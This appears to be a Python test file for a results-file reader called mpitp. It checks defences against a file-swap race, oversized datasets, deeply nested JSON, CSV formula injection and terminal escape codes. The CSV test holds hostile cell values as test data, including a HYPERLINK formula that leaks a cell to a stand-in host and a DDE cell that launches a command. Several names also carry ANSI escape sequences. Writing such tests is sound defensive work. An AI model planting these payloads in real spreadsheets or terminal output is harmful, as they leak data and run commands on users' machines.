    """Item 5, the race: the name is opened once (``O_NONBLOCK``, then ``fstat``) and HDF5 opens that descriptor
    (``/proc/self/fd/N``), so a name given another file after the check (here another results file; a FIFO there
    would block an open by name) is not what HDF5 reads: it reads the checked file, or, where that file is gone
    (HDF5 cannot name a deleted file), fails (one line for the readers), never the swapped-in one."""
    import h5py as real_h5py

    from mpitp.results import schema

    path = make_file(tmp_path / "a.h5")
    other = str(tmp_path / "other.h5")
    ResultWriter(other, {**META, "model": "swapped/in"}).finish({"results": {}}, wall_time_s=1.0)
    opened = []

    class Swap(real_h5py.File):
        def __init__(self, name, *args, **kwargs):
            if not opened:
                opened.append(name)
                if checked == "moved away":
                    os.replace(path, str(tmp_path / "moved.h5"))
                os.replace(other, path)  # between the check and HDF5's open, the name is given another file
            super().__init__(name, *args, **kwargs)

    monkeypatch.setattr(schema.h5py, "File", Swap)
    if checked == "moved away":
        with schema.open_h5(path) as f:
            assert f.attrs["model"] == "synthetic/model"
    else:
        with pytest.raises(OSError, match="real path"):
            schema.open_h5(path).close()
    assert opened[0].startswith("/proc/self/fd/")


def _declared_columns(path: str, n: int, names) -> None:
    """Request columns of ``n`` rows with no chunk written: they cost the file nothing and read as fill values."""
    from mpitp.results.schema import REQUEST_FIELDS

    with h5py.File(path, "a") as f:
        g = f["tasks/syn_mc/requests"]
        for name in names:
            del g[name]
            g.create_dataset(name, shape=(n,), maxshape=(None,), chunks=(1 << 16,), dtype=REQUEST_FIELDS[name])


def test_memory_bound_is_per_file_not_per_dataset(tmp_path):
    """Item 6: nine columns of 5M rows, each within the per-dataset bound (8 B x 5M = 40 MB < 1 MiB + 1024 x 65 kB)
    but 265 MB together; ``mpitp report`` on it peaked at 626 MB. Now the file is refused before any row is read,
    while a file whose columns together stay within the bound is still read."""
    from click.testing import CliRunner

    from mpitp.cli.report import report_command
    from mpitp.results.schema import REQUEST_FIELDS
    from mpitp.results.untrusted import EXPANSION, SMALL_DATASET_BYTES

    path = make_file(tmp_path / "big.h5")
    _declared_columns(path, 5_000_000, REQUEST_FIELDS)
    limit = SMALL_DATASET_BYTES + EXPANSION * os.path.getsize(path)
    assert 8 * 5_000_000 < limit < 53 * 5_000_000  # every column alone passes the old per-dataset rule
    line = one_line_exit_2(invoke(path))
    assert "refused: its datasets declare" in line and f"over the {limit} a file of this size can hold" in line
    r = CliRunner().invoke(report_command, [path, "-o", str(tmp_path / "r.html")])
    assert "refused: its datasets declare" in one_line_exit_2(r)
    small = make_file(tmp_path / "small.h5")  # the same trick within the whole-file bound: read (rows of fill)
    _declared_columns(small, 10_000, REQUEST_FIELDS)
    assert invoke(small).exit_code == 0


DEEP = "[" * 100_000 + "]" * 100_000  # Python's json recursed into a RecursionError (not a ValueError): a traceback


def _deep_sweep_summary(tmp_path):
    path = tmp_path / "sweep-summary.json"
    path.write_text(json.dumps({"checkpoints": [], "comparisons": []})[:-1] + f', "extra": {DEEP}}}')
    return path


def test_deeply_nested_json_is_one_line_everywhere(tmp_path):
    """Item 7: results_json, config_json, a logged sample, a journal record, a sweep summary, the recorded settings
    of rescore and --resume: each nested 100k deep ended in a RecursionError traceback (and MPI_Abort under
    mpiexec). Now one line with exit status 2, or, where the part is optional (config_json for the table, a sample
    printed as text, a journal record ending the journal), no error at all."""
    from click.testing import CliRunner

    from mpitp.cli.report import report_command
    from mpitp.evaluation.rescore import rescore

    res = make_file(tmp_path / "results.h5")
    with h5py.File(res, "a") as f:
        f.attrs["results_json"] = DEEP
    for args in ([], ["--json"], ["--csv"]):
        assert "results_json is not valid: results_json nests 100000 levels deep" in one_line_exit_2(
            invoke(res, *args))

    cfg = make_file(tmp_path / "config.h5")
    with h5py.File(cfg, "a") as f:
        f.attrs["config_json"] = DEEP
    r = invoke(cfg)
    assert r.exit_code == 0 and r.exception is None, (r.output, r.exception)
    with pytest.raises(UsageError, match=f"cannot resume {cfg}: not an mpitp results file \\(config_json nests"):
        check_resumable(cfg, EvalConfig(model="synthetic/model", tasks=["syn_mc", "syn_gen"], limit=3))
    with h5py.File(cfg, "a") as f:
        f.attrs["config_json"] = "{}"
        f.attrs["eval_config_json"] = DEEP
    with pytest.raises(UsageError, match="its recorded settings are not valid .the recorded settings nests"):
        rescore(cfg)

    sample = make_file(tmp_path / "sample.h5")
    with h5py.File(sample, "a") as f:
        del f["tasks/syn_mc/samples"]
        f.create_dataset("tasks/syn_mc/samples", data=np.array([DEEP], dtype=object), dtype=h5py.string_dtype())
    r = invoke(sample, "--task", "syn_mc", "--samples")
    assert r.exit_code == 0 and r.exception is None and r.output.startswith("[[["), r.exception
    r = CliRunner().invoke(report_command, [sample, "-o", str(tmp_path / "r.html")])
    assert "a logged sample nests 100000 levels deep" in one_line_exit_2(r)

    running = _running(tmp_path, records=[{"seq": 9, "tasks": {}, "x": json.loads("[" * 50 + "]" * 50)}])
    with open(journal_path(running), "ab") as j:
        payload = DEEP.encode()
        import struct
        import zlib

        j.write(struct.pack("<II", len(payload), zlib.crc32(payload)) + payload)
    r = invoke(running)
    assert r.exit_code == 0 and r.exception is None and "running" in r.output, (r.output, r.exception)

    summary = _deep_sweep_summary(tmp_path)
    assert "not a sweep summary (its JSON nests 100001 levels deep" in one_line_exit_2(invoke(summary))
    r = CliRunner().invoke(report_command, [res.replace("results.h5", "config.h5"), str(summary), "-o",
                                            str(tmp_path / "r.html")])
    assert "not a sweep summary (its JSON nests" in one_line_exit_2(r)


def test_json_depth_counts_brackets_outside_strings_only():
    """The depth scan is the tokenizer's: brackets inside strings (escaped quotes and backslashes included) do not
    count, so text full of brackets is read; real nesting past the bound is refused before parsing."""
    from mpitp.results.untrusted import MAX_JSON_DEPTH, BadInput, json_depth, load_json

    text = json.dumps({"doc": "[" * 5000 + '\\"[{' + "\\", "target": ["]]]\"[[["], "n": [[1]]})
    assert json_depth(text) == 3 and load_json(text, "t")["doc"].startswith("[[[")
    nested = "[" * MAX_JSON_DEPTH + "]" * MAX_JSON_DEPTH
    assert load_json(nested, "t") == load_json(nested, "t")  # at the bound: read
    with pytest.raises(BadInput, match=f"t nests {MAX_JSON_DEPTH + 1} levels deep"):
        load_json("[" + nested + "]", "t")
    with pytest.raises(BadInput, match="t is not UTF-8 text"):
        load_json(b"\x80[]", "t")


def test_csv_cells_cannot_start_a_formula(tmp_path):
    """Item 8: task, metric and filter names (and a value stored as text) from a file that start with ``= + - @``,
    a tab or a carriage return are written with a leading ``'``; numbers, negative ones too, stay numbers."""
    import csv
    import io

    path = str(tmp_path / "formula.h5")
    task, metric, filt = '=HYPERLINK("http://x.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)"
    w = ResultWriter(path, META)
    metrics = {f"{metric},{filt}": -0.5, f"{metric}_stderr,{filt}": 0.25, "-acc,\tnone": "-2+3", "acc,none": "-1.5",
               "\racc,none": 1.0}
    w.write_task(task, dict(n_docs=2), metrics)
    w.finish({"results": {task: metrics}}, wall_time_s=1.0)
    r = invoke(path, "--csv")
    assert r.exit_code == 0, (r.output, r.exception)
    rows = list(csv.reader(io.StringIO(r.output)))[1:]
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))], rows
    assert [task, metric, filt] == [c[1:] for c in rows[0][:3]] and all(c[0] == "'" for c in rows[0][:3])
    assert rows[0][3:5] == ["-0.5", "0.25"]  # numbers stay numbers
    by_metric = {row[1]: row for row in rows}  # a tab or CR is also printed escaped (shown): \\t, \\r
    assert by_metric["'-acc"][2:4] == ["'\\tnone", "'-2+3"] and by_metric["acc"][3] == "-1.5"
    assert by_metric["'\\racc"][3] == "1.0"
    from mpitp.results.reader import load
    from mpitp.results.render import render_csv

    raw = render_csv(load(path), None)  # the text before inspect escapes it: the prefix is there already
    assert ",'-acc,'\tnone,'-2+3," in raw and ",'\racc,none,1.0," in raw


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_escaper_lives_below_errors():
    """Issue 38's layers: the escaper is a bottom module with no mpitp imports, and ``untrusted.shown`` is it."""
    import ast

    import mpitp.escape
    from mpitp.results import untrusted

    tree = ast.parse(open(mpitp.escape.__file__, encoding="utf-8").read())
    imported = [n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)] + \
        [a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names]
    assert not [m for m in imported if m and m.startswith("mpitp")]
    assert untrusted.shown is mpitp.escape.shown and "mpitp.escape import shown" in open(
        __import__("mpitp.errors").errors.__file__, encoding="utf-8").read()


def test_plots_show_names_escaped(tmp_path):
    """--plot drew a file's task and model names as they are: matplotlib, lacking a glyph for ESC, warned on stderr
    'Glyph 27 (\\x1b) missing from font(s)' with the raw control character in it (the terminal took it), and the
    chart showed nothing where the text was. The charts (a run's and a sweep summary's) now show them as the
    terminal does (arc\\x1b[31m), so no warning is raised."""
    import warnings

    pytest.importorskip("matplotlib")
    from mpitp.results.plot import figure_class
    from mpitp.results.sweepsummary import Row, plot_summary, write_summary

    path = make_file(tmp_path / "evil.h5")
    with h5py.File(path, "a") as f:
        f.attrs["model"] = "m\x1b]0;title\x07"
        f.move("tasks/syn_mc", "tasks/syn\x1b[31mmc")
        res = json.loads(f.attrs["results_json"])
        res["results"]["syn\x1b[31mmc"] = res["results"].pop("syn_mc")
        f.attrs["results_json"] = json.dumps(res)
    summary = str(tmp_path / "sweep-summary.json")
    write_summary(summary, [Row("m", f"step\x1b[2J{i}", "o.h5", "complete", wall_s=1.0,
                                metrics={"t\x1b[5m": {"acc,none": 0.5}}) for i in (1, 2)], 2.0)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        r = invoke(path, "--plot", str(tmp_path / "p.png"))
        plot_summary(summary, str(tmp_path / "s.png"), figure_class())
    assert r.exit_code == 0, r.output
    assert [str(w.message) for w in caught if "Glyph" in str(w.message)] == []
    assert "\x1b" not in r.output
